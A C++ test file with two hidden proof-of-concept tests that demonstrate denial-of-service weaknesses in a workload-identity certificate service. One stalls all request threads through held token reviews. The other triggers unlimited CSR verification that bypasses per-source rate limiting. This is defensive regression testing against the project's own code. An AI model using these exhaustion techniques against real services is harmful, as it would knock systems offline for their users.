// Proof of concept (attacker review): a TokenReview runs on one of the HTTP
// server's threads (2 by default), so two slow reviews stall every other
// request of the replica, even one refused without a review; the
// --max-concurrent-reviews limit (64) cannot trigger. Hidden ([.]): it
// asserts the weakness, and fails once it is fixed.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <condition_variable>
#include <mutex>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "identity/service.h"
#include "identity/test_requests.h"
#include "weft/http/server.h"

using namespace weft;
using namespace weft::identity;

namespace {

class HeldReviewer final : public TokenReviewer {
 public:
  Result<TokenReviewAnswer> review(std::string_view) override {
    std::unique_lock lock(mutex_);
    ++waiting_;
    changed_.notify_all();
    changed_.wait(lock, [&] { return released_; });
    return TokenReviewAnswer{true, {"identity.weft.io"}, "system:serviceaccount:shop:web", ""};
  }
  void wait_for_waiting(int count) {
    std::unique_lock lock(mutex_);
    changed_.wait(lock, [&] { return waiting_ >= count; });
  }
  void release() {
    std::lock_guard lock(mutex_);
    released_ = true;
    changed_.notify_all();
  }

 private:
  std::mutex mutex_;
  std::condition_variable changed_;
  int waiting_ = 0;
  bool released_ = false;
};

class NullSigner final : public LeafSigner {
 public:
  Result<Leaf> sign(std::string_view, const WorkloadIdentity& identity,
                    std::chrono::system_clock::time_point now) override {
    return Leaf{"LEAF " + identity.uri(), now};
  }
  const std::string& chain_pem() const override { return chain_; }
  std::chrono::system_clock::time_point not_after() const override {
    return std::chrono::system_clock::time_point::max();
  }

 private:
  std::string chain_ = "ISSUER";
};

// One request on its own connection; the status line, or "" when nothing
// came back within `timeout`.
std::string raw_post(std::uint16_t port, const std::string& authorization, const std::string& body,
                     std::chrono::seconds timeout) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  timeval limit{static_cast<time_t>(timeout.count()), 0};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) {
    ::close(fd);
    return "connect failed";
  }
  std::string request = "POST /v1/certificates HTTP/1.1\r\nHost: x\r\n";
  if (!authorization.empty()) request += "Authorization: " + authorization + "\r\n";
  request += "Content-Type: application/json\r\nContent-Length: " + std::to_string(body.size()) +
             "\r\nConnection: close\r\n\r\n" + body;
  (void)::send(fd, request.data(), request.size(), MSG_NOSIGNAL);
  char buffer[256];
  const ssize_t n = ::recv(fd, buffer, sizeof buffer, 0);
  ::close(fd);
  if (n <= 0) return "";
  const std::string answer(buffer, static_cast<std::size_t>(n));
  return answer.substr(0, answer.find("\r\n"));
}

}  // namespace

TEST_CASE("attack: two held TokenReviews stall every other request of the replica",
          "[.][attack][identity]") {
  Registry registry;
  std::ostringstream log_text;
  Logger logger{"identity", LogLevel::kDebug, ostream_sink(log_text)};
  HeldReviewer reviewer;
  IdentityService service{registry, logger, reviewer, IssuanceOptions{}, 64};
  service.publish(std::make_shared<NullSigner>(), "");
  http::ServerOptions options;  // threads = 2, as weft-identity's default --threads
  auto server = http::Server::start(options, service.certificate_routes());
  REQUIRE(server);
  const std::uint16_t port = (*server)->port();

  const std::string body = nlohmann::json{{"csr", testing::real_csr()}}.dump();
  const std::string bearer =
      "Bearer " + testing::token_for("attacker", "sa", std::chrono::system_clock::now());
  // Two plausible tokens: each holds a server thread in its TokenReview.
  std::thread first([&] { raw_post(port, bearer, body, std::chrono::seconds(30)); });
  std::thread second([&] { raw_post(port, bearer, body, std::chrono::seconds(30)); });
  reviewer.wait_for_waiting(2);

  // A request that needs no review (no token: 401 at once) gets no answer
  // while the two reviews last: 2 of 64 "concurrent reviews" block the replica.
  const auto started = std::chrono::steady_clock::now();
  CHECK(raw_post(port, "", body, std::chrono::seconds(3)).empty());
  CHECK(std::chrono::steady_clock::now() - started >= std::chrono::seconds(3));

  reviewer.release();
  first.join();
  second.join();
  // Once they end, the same request is answered at once.
  CHECK(raw_post(port, "", body, std::chrono::seconds(10)) == "HTTP/1.1 401 Unauthorized");
  (*server)->stop();
}

// Proof of concept (attacker review), hidden: the CSR is verified before the
// token's claims are looked at and before the per-source budget, and a
// refusal spends nothing of that budget: one address can make weft-identity
// verify CSRs without end, each refused as wrong_audience, never limited.
TEST_CASE("attack: one address makes weft-identity verify CSRs without limit",
          "[.][attack][identity]") {
  Registry registry;
  std::ostringstream log_text;
  Logger logger{"identity", LogLevel::kDebug, ostream_sink(log_text)};
  HeldReviewer reviewer;
  reviewer.release();
  IdentityService service{registry,          logger, reviewer,
                          IssuanceOptions{}, 64,     SourceLimits{.qps = 2, .burst = 20}};
  service.publish(std::make_shared<NullSigner>(), "");
  http::Request request;
  request.method = "POST";
  request.path = std::string(kCertificatesPath);
  request.peer = "10.0.0.66";
  request.body = nlohmann::json{{"csr", testing::real_csr()}}.dump();
  const auto now = std::chrono::system_clock::now();
  request.authorization = "Bearer " + testing::jwt({{"aud", {"someone-else"}},
                                                    {"exp", testing::unix_seconds(now) + 3600},
                                                    {"sub", "system:serviceaccount:attacker:sa"}});
  constexpr int kRequests = 2000;
  const auto started = std::chrono::steady_clock::now();
  for (int i = 0; i < kRequests; ++i) CHECK(service.certificates(request).status == 401);
  const double seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
  WARN("CPU per refused request (CSR verified): " << seconds / kRequests * 1e6 << " us");
  const std::string metrics = service.metrics_routes()["/metrics"](http::Request{}).body;
  CHECK(metrics.find("weft_identity_refusals_total{reason=\"wrong_audience\"} 2000") !=
        std::string::npos);
  CHECK(metrics.find("weft_identity_refusals_total{reason=\"too_many_from_source\"} 0") !=
        std::string::npos);
}
